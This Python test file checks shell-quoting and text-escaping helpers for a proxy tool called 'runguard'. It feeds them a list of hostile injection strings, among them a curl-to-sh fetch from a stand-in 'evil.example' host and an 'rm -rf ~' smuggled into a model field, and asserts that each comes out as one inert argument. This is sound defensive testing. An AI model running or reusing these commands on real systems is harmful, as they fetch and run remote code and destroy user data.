"""Client text made printable, and reset commands a shell reads as exactly the words meant."""

from __future__ import annotations

import shlex

import pytest

from runguard.proxy.core.safe_text import printable, proxy_url, reset_command, shell_word

HOSTILE = [
    "demo; curl http://evil.example/x | sh",
    "$(touch PWNED)",
    "`id`",
    "it's",
    "a\nb",
    "--url=http://evil.example",
    "",
]


def test_printable_escapes_control_characters_and_keeps_text() -> None:
    assert printable("run-1 été 日本") == "run-1 été 日本"
    assert printable("a\x00b\x1b[2Jc\nd\x7f\x85\u2028") == "a\\x00b\\x1b[2Jc\\x0ad\\x7f\\x85\\u2028"
    assert printable("a\x00b").isprintable()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_shell_word_is_one_argument(text: str) -> None:
    assert shlex.split(f"cmd {shell_word(text)}") == ["cmd", printable(text)]


@pytest.mark.parametrize("run_id", HOSTILE[:-1])
def test_reset_commands_parse_to_the_words_meant(run_id: str) -> None:
    words = shlex.split(reset_command(run_id=run_id, url="http://10.0.0.5:9000"))
    assert words[:4] == ["runguard-proxy", "reset", "--url", "http://10.0.0.5:9000"]
    assert words[-1] == printable(run_id)
    if run_id.startswith("-"):
        assert words[-2] == "--"  # never read as an option


def test_key_reset_commands() -> None:
    assert reset_command(key="k_0123", url=None) == "runguard-proxy reset --key k_0123"
    command = reset_command(key="k_0123", model="gpt-4o; rm -rf ~", url=None)
    assert shlex.split(command) == ["runguard-proxy", "reset", "--key", "k_0123", "--model", "gpt-4o; rm -rf ~"]
    assert shlex.split(reset_command(key="k_0123", model="-x", url=None))[-1] == "--model=-x"


@pytest.mark.parametrize(
    ("host", "port", "url"),
    [
        ("127.0.0.1", 8787, None),
        ("localhost", 8787, None),
        ("0.0.0.0", 8787, None),  # reached as 127.0.0.1:8787 from its own machine: the default
        ("127.0.0.1", 9000, "http://127.0.0.1:9000"),
        ("0.0.0.0", 9000, "http://127.0.0.1:9000"),
        ("::1", 8787, "http://[::1]:8787"),
        ("10.0.0.5", 8787, "http://10.0.0.5:8787"),
        ("127.0.0.1", 0, None),  # picked at start: not known from the settings
    ],
)
def test_proxy_url(host: str, port: int, url: str | None) -> None:
    assert proxy_url(host, port) == url
